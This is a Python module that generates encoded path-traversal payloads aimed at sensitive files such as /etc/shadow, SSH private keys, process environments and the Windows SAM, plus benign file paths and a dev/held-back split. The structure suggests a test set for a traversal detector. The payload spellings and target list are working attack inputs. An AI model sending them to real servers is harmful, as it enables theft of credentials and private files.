"""Path-traversal payloads spelled the way traversal fuzzers spell them, and benign file paths.

A generator of our own (no fuzzer's list is copied): each payload climbs ``depth`` directories
with ``..`` and a separator, then names a well-known file on Unix or Windows. Every dot,
separator and file-name separator is spelled by one of :data:`DOT_SPELLINGS` /
:data:`SEP_SPELLINGS`: percent escapes (single, double, triple), invalid escapes that lenient
decoders still read (a stray ``%``, IIS-style non-hex digits ``%1u``), ``%uXXXX`` escapes
including look-alike dots and slashes from other Unicode blocks, overlong UTF-8 in 2-, 3- and
4-byte forms (also with an invalid continuation byte), hex spelled as text (``0x2e``), and
mixed or doubled separators. The payload lands in a query parameter or in the URL path::

    payloads = traversal_payloads(2000, seed=7)
    dev, held_back = split_payloads(payloads, held_back=0.3, seed=7)
    benign = benign_file_paths(500, seed=7)
"""

from __future__ import annotations

import random
import urllib.parse

import attrs

__all__ = [
    "DOT_SPELLINGS",
    "SEP_SPELLINGS",
    "TARGETS",
    "TraversalPayload",
    "benign_file_paths",
    "split_payloads",
    "traversal_payloads",
]


def _overlong(char: str, length: int) -> str:
    """``char`` (ASCII) as an overlong UTF-8 sequence of ``length`` bytes, percent-escaped."""
    code = ord(char)
    if length == 2:
        raw = [0xC0 | (code >> 6), 0x80 | (code & 0x3F)]
    elif length == 3:
        raw = [0xE0, 0x80 | (code >> 6), 0x80 | (code & 0x3F)]
    else:
        raw = [0xF0, 0x80, 0x80 | (code >> 6), 0x80 | (code & 0x3F)]
    return "".join(f"%{b:02x}" for b in raw)


def _lenient_hex(byte: int) -> str:
    """``byte`` as ``%XY`` where Y is a letter past ``f``: decoders that compute a digit's value
    as ``letter - 'a' + 10`` with no range check (IIS once did) still read it as ``byte``."""
    for hi in range(16):
        lo = byte - 16 * hi
        if 16 <= lo < 36:
            return f"%{hi:x}{chr(ord('a') + lo - 10)}"
    return f"%{byte:02x}"


def _lenient_overlong(char: str) -> str:
    """A 2-byte overlong form whose continuation byte is spelled with a lenient hex digit."""
    code = ord(char)
    return f"%{0xC0 | (code >> 6):02x}" + _lenient_hex(0x80 | (code & 0x3F))


def _invalid_overlong(char: str) -> str:
    """A 2-byte form whose second byte lacks the continuation bit (``%c0%2e``): invalid UTF-8
    that decoders masking the low 6 bits read as ``char``."""
    code = ord(char)
    return f"%{0xC0 | (code >> 6):02x}%{code & 0x3F | (code & 0x40):02x}"


def _spellings(char: str, lookalikes: tuple[str, ...]) -> tuple[str, ...]:
    code = ord(char)
    out = [
        char,
        f"%{code:02x}",
        f"%{code:02X}",
        f"%25{code:02x}",
        f"%2525{code:02x}",
        f"%%{code:02x}",  # a stray "%" in front of a valid escape
        f"%u{code:04x}",
        f"%U{code:04X}",
        _overlong(char, 2),
        _overlong(char, 3),
        _overlong(char, 4),
        _lenient_hex(code),
        _lenient_overlong(char),
        _invalid_overlong(char),
        f"0x{code:02x}",
        f"\\x{code:02x}",
    ]
    out.extend(f"%u{ord(c):04x}" for c in lookalikes)
    return tuple(dict.fromkeys(out))


#: Look-alike dots: one dot leader, small and full-width full stops, ideographic full stops.
_DOT_LOOKALIKES = ("\u2024", "\ufe52", "\uff0e", "\u3002", "\uff61")
#: Look-alike slashes: division and fraction slash, big solidus, full-width and small solidi,
#: set minus and reverse solidus operator (backslash shapes).
_SLASH_LOOKALIKES = ("\u2215", "\u2044", "\u29f8", "\uff0f")
_BACKSLASH_LOOKALIKES = ("\u2216", "\u29f5", "\uff3c", "\ufe68")

#: Every spelling of one ``.`` the generator uses.
DOT_SPELLINGS: tuple[str, ...] = _spellings(".", _DOT_LOOKALIKES)
#: Every spelling of one separator (``/`` or ``\``) the generator uses.
SEP_SPELLINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        _spellings("/", _SLASH_LOOKALIKES)
        + _spellings("\\", _BACKSLASH_LOOKALIKES)
        + ("//", "\\\\", "/\\", "\\/", "/./", "\\.\\")
    )
)

#: Well-known files a traversal reaches: (operating system, path segments).
TARGETS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("unix", ("etc", "passwd")),
    ("unix", ("etc", "shadow")),
    ("unix", ("etc", "hosts")),
    ("unix", ("etc", "group")),
    ("unix", ("etc", "issue")),
    ("unix", ("proc", "self", "environ")),
    ("unix", ("proc", "self", "cmdline")),
    ("unix", ("root", ".ssh", "id_rsa")),
    ("unix", ("root", ".bash_history")),
    ("unix", ("var", "log", "apache2", "access.log")),
    ("unix", ("home", "www", ".env")),
    ("windows", ("windows", "win.ini")),
    ("windows", ("boot.ini",)),
    ("windows", ("windows", "system32", "drivers", "etc", "hosts")),
    ("windows", ("winnt", "win.ini")),
    ("windows", ("windows", "system.ini")),
    ("windows", ("inetpub", "wwwroot", "web.config")),
    ("windows", ("windows", "repair", "sam")),
)
_PREFIXES = ("", "", "/", "./", "images/", "static/files/", "/var/www/html/", "C:\\inetpub\\")
_SUFFIXES = ("", "", "", "%00", "%00.jpg", "%00.html", "?", "#x")


@attrs.frozen(slots=True)
class TraversalPayload:
    """One generated traversal request: ``target`` is a request target (path and query)."""

    target: str
    family: str
    os: str
    file: str
    #: the dot and separator spellings, joined by a space: what :func:`split_payloads` groups by
    spelling: str


def _dot_dot(rng: random.Random, dot: str) -> str:
    # Usually both dots alike (how fuzzers iterate), sometimes mixed spellings.
    second = dot if rng.random() < 0.7 else rng.choice(DOT_SPELLINGS)
    return dot + second


def traversal_payloads(count: int, *, seed: int = 0) -> list[TraversalPayload]:
    """``count`` traversal payloads, the same list for the same ``seed``."""
    rng = random.Random(seed)
    out: list[TraversalPayload] = []
    seen: set[str] = set()
    attempts = 0
    while len(out) < count and attempts < count * 20:
        attempts += 1
        os_name, segments = rng.choice(TARGETS)
        dot = rng.choice(DOT_SPELLINGS)
        sep = rng.choice(SEP_SPELLINGS)
        style = rng.random()
        if style < 0.15:
            # filter-stripping forms: "....//" and "..././" leave "../" once "../" is removed
            climb = rng.choice(("....", "..." + "." + sep[:1] + "..", dot * 4))
            step = climb + sep + sep
        elif style < 0.25:
            step = _dot_dot(rng, dot) + rng.choice((";", "%3b", "%00")) + sep
        else:
            step = _dot_dot(rng, dot) + sep
        depth = rng.randint(1, 8)
        file_sep = sep if rng.random() < 0.6 else rng.choice(("/", "\\", sep))
        file_path = file_sep.join(segments)
        if os_name == "windows" and rng.random() < 0.2:
            file_path = rng.choice(("c:", "C:", "c%3a")) + file_sep + file_path
        payload = rng.choice(_PREFIXES) + step * depth + file_path + rng.choice(_SUFFIXES)
        if rng.random() < 0.5:
            # The query parameter carries the payload escaped once more, as a client sends it.
            escaped = urllib.parse.quote(payload, safe="%")
            target = "/download?file=" + escaped
            family = "query"
        else:
            target = "/static/" + payload.lstrip("/").replace("?", "%3f").replace("#", "%23")
            family = "path"
        if target in seen:
            continue
        seen.add(target)
        out.append(TraversalPayload(target, family, os_name, "/".join(segments), f"{dot} {sep}"))
    return out


def split_payloads(
    payloads: list[TraversalPayload], *, held_back: float = 0.3, seed: int = 0
) -> tuple[list[TraversalPayload], list[TraversalPayload]]:
    """(dev, held_back), split by spelling with a fixed seed: tune on dev, report on held-back.

    A (dot spelling, separator spelling) pair is either all dev or all held-back, so the
    held-back part grades combinations the dev part never showed.
    """
    spellings = sorted({p.spelling for p in payloads})
    random.Random(seed).shuffle(spellings)
    back = set(spellings[: round(len(spellings) * held_back)])
    return (
        [p for p in payloads if p.spelling not in back],
        [p for p in payloads if p.spelling in back],
    )


_DIRS = (
    "docs",
    "images",
    "uploads",
    "reports/2024",
    "assets/css",
    "home/alice/projects",
    "Users/bob/Documents",
    "var/www/site/public",
    "static/js/vendor",
    "photos/vacation",
    "data/exports",
    "src/main/java/com/example",
)
_FILES = (
    "report.pdf",
    "invoice-2024-03.pdf",
    "cat.png",
    "logo@2x.png",
    "style.min.css",
    "app.bundle.js",
    "résumé.docx",
    "報告書.xlsx",
    "notes v1.2.txt",
    "archive.tar.gz",
    "Q3 results (final).pptx",
    "my file 100%.txt",
    "index.html",
    "README.md",
    "photo_2024-05-01.jpeg",
    "data.csv",
    "config.example.json",
    "backup...old.txt",
    "v2..v3.diff",
)


def benign_file_paths(count: int, *, seed: int = 0) -> list[str]:
    """``count`` request targets carrying file paths users legitimately send."""
    rng = random.Random(seed)
    out: list[str] = []
    for _ in range(count):
        directory = rng.choice(_DIRS)
        name = rng.choice(_FILES)
        style = rng.random()
        if style < 0.2:
            path = "C:\\" + directory.replace("/", "\\") + "\\" + name
        elif style < 0.3:
            path = "/" + directory + "/" + name
        elif style < 0.4:
            path = "./" + directory + "/" + name
        elif style < 0.5:
            path = "~/" + directory + "/" + name
        else:
            path = directory + "/" + name
        if rng.random() < 0.5:
            out.append("/download?file=" + urllib.parse.quote(path, safe=""))
        else:
            out.append("/files/" + urllib.parse.quote(path.replace("\\", "/").lstrip("/~.")))
    return out
